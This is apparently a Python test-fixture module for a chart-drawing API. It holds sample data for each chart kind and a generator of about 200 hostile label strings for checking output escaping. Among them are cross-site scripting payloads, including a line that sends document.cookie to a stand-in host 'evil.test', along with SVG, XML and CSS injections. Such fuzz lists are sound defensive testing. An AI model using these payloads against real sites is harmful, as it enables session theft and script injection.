"""One picture of each kind, of data that a test may choose, and texts that break drawings."""

from collections.abc import Callable, Mapping

from api.pictures import (
    Bin,
    Bought,
    Effect,
    Gain,
    Look,
    Picture,
    Reliability,
    Roc,
    Series,
    Step,
    contributions,
    distribution,
    gain,
    gauge,
    heat,
    interval,
    lines,
    reliability,
    roc,
    sequence,
    shares,
    timeline,
    uplift,
)

DAY_US = 86_400_000_000
AT_US = 1_795_651_200_000_000
"""26 November 2026, 00:00 UTC."""

SOME: Mapping[str, Callable[[str], Picture]] = {
    "distribution": lambda noun: distribution([40, 20, 9, 3], chosen=(0.3, 0.9), noun=noun),
    "reliability": lambda name: reliability(
        [
            Reliability(name, [Bin(200, 0.1, 0.08), Bin(90, 0.4, 0.5)]),
            Reliability("version 7", [Bin(200, 0.1, 0.2)]),
        ]
    ),
    "gain": lambda name: gain(
        [Gain(name, [(0.1, 0.4), (0.5, 0.8)]), Gain("version 7", [(0.5, 0.6)])]
    ),
    "lines": lambda name: lines(
        [
            Series(name, [(AT_US + day * DAY_US, float(day % 3)) for day in range(9)]),
            Series("median", [(AT_US, None), (AT_US + DAY_US, 0.5)]),
        ],
        unit=name,
        limit=2.5,
        limit_name=name,
    ),
    "contributions": lambda name: contributions([(name, 0.9), ("age", -0.4)]),
    "gauge": lambda name: gauge(0.46, average=0.08),  # noqa: ARG005  # it shows no texts
    "timeline": lambda name: timeline(
        [Bought(AT_US - day * DAY_US, name, "1.00 EUR") for day in (1, 40, 200)],
        as_of_us=AT_US,
        windows=[30, 90],
        chosen=name,
    ),
    "roc": lambda name: roc(
        [Roc(name, [(0, 0), (0.2, 0.7), (1, 1)], 0.81), Roc("version 7", [(0, 0), (1, 1)], 0.5)]
    ),
    "interval": lambda name: interval(
        [Effect(name, 1.8, 0.4, 3.2), Effect("revenue", -0.3, None, 1.0)], unit=name
    ),
    "uplift": lambda name: uplift(
        [Step(name, 80, 0.02, 0.01, 0.03), Step("2", 80, 0.0, -0.1, None)]
    ),
    "sequence": lambda name: sequence(
        [
            Look(AT_US + day * DAY_US, 1.5, None if day < 1 else 1 - 3 / day, 4.0)
            for day in range(9)
        ],
        unit=name,
    ),
    "heat": lambda name: heat(
        [name, "age"],
        [AT_US + day * DAY_US for day in range(3)],
        [[0.1, None, 0.3], [0.0, 0.1, 0.2]],
        limit=0.2,
    ),
    "shares": lambda name: shares([(name, 0.0025), ("version 7", 0.9975)]),
}
"""Each kind with its texts replaced."""

NONE: Mapping[str, Picture] = {
    "distribution": distribution([]),
    "reliability": reliability([]),
    "gain": gain([Gain("version 8", [])]),
    "lines": lines([Series("requests", [(AT_US, None)])], unit="requests per second"),
    "contributions": contributions([]),
    "gauge": gauge(None),
    "timeline": timeline([], as_of_us=AT_US, windows=[30]),
    "roc": roc([]),
    "interval": interval([], unit="points"),
    "uplift": uplift([]),
    "sequence": sequence([], unit="points"),
    "heat": heat(["age"], [AT_US], [[None]], limit=0.2),
    "shares": shares([]),
}
"""Each kind without data."""


def hostile_texts() -> list[str]:
    """Two hundred texts that were meant to become script, markup, references or broken documents."""
    scripts = ["alert(1)", "fetch('//evil.test/'+document.cookie)", "top.location='//evil.test'"]
    around = [
        "<script>{}</script>",
        '"><script>{}</script>',
        "'><svg onload={}>",
        "<img src=x onerror={}>",
        '" onload="{}',
        "' onmouseover='{}",
        "javascript:{}",
        "<a xlink:href='javascript:{}'>x</a>",
        "<foreignObject><iframe src='javascript:{}'/></foreignObject>",
        "<style>@import '//evil.test'; /*{}*/</style>",
        "]]><script>{}</script>",
        "--><script>{}</script>",
        "<!ENTITY x '{}'>&x;",
        "<?xml-stylesheet href='javascript:{}'?>",
        "&lt;script&gt;{}&lt;/script&gt;",
        "&#60;script&#62;{}",
        "${{{}}}",
        "{{{{{}}}}}",
        "</text><script>{}</script><text>",
        "</svg><script>{}</script>",
        "url(#{})",
        "url(javascript:{})",
        "var(--ink);{}",
        "expression({})",
        "data:text/html,<script>{}</script>",
        "<set attributeName=onmouseover to={}>",
        "<animate onbegin={} attributeName=x dur=1s>",
        "<use href=data:image/svg+xml,{}>",
        "\\u003cscript\\u003e{}",
        "%3Cscript%3E{}",
    ]
    made = [each.format(script) for each in around for script in scripts]
    odd = [
        "",
        " ",
        "\x00",
        "\x08\x0b\x0c",
        "\ud800",
        "\udfff\ud800",
        "\ufffe\uffff",
        "\u202etxt.exe",
        "\u2066\u2067",
        "\n\r\t",
        "a\u0300" * 50,
        "\U0001f48d" * 40,
        "W" * 5_000,
        "名" * 300,
        "م" * 300,
        "null",
        "undefined",
        "NaN",
        "datum.value",
        "['x']",
        "a.b.c",
        "a[0]",
        "__proto__",
        "constructor",
        "%s%n",
        "-0",
        "1e999",
        "\x7f\x9f",
    ]
    mixed = [f"{left}{right}" for left in odd for right in made[:40:10]]
    return list(dict.fromkeys([*made, *odd, *mixed]))[:200]
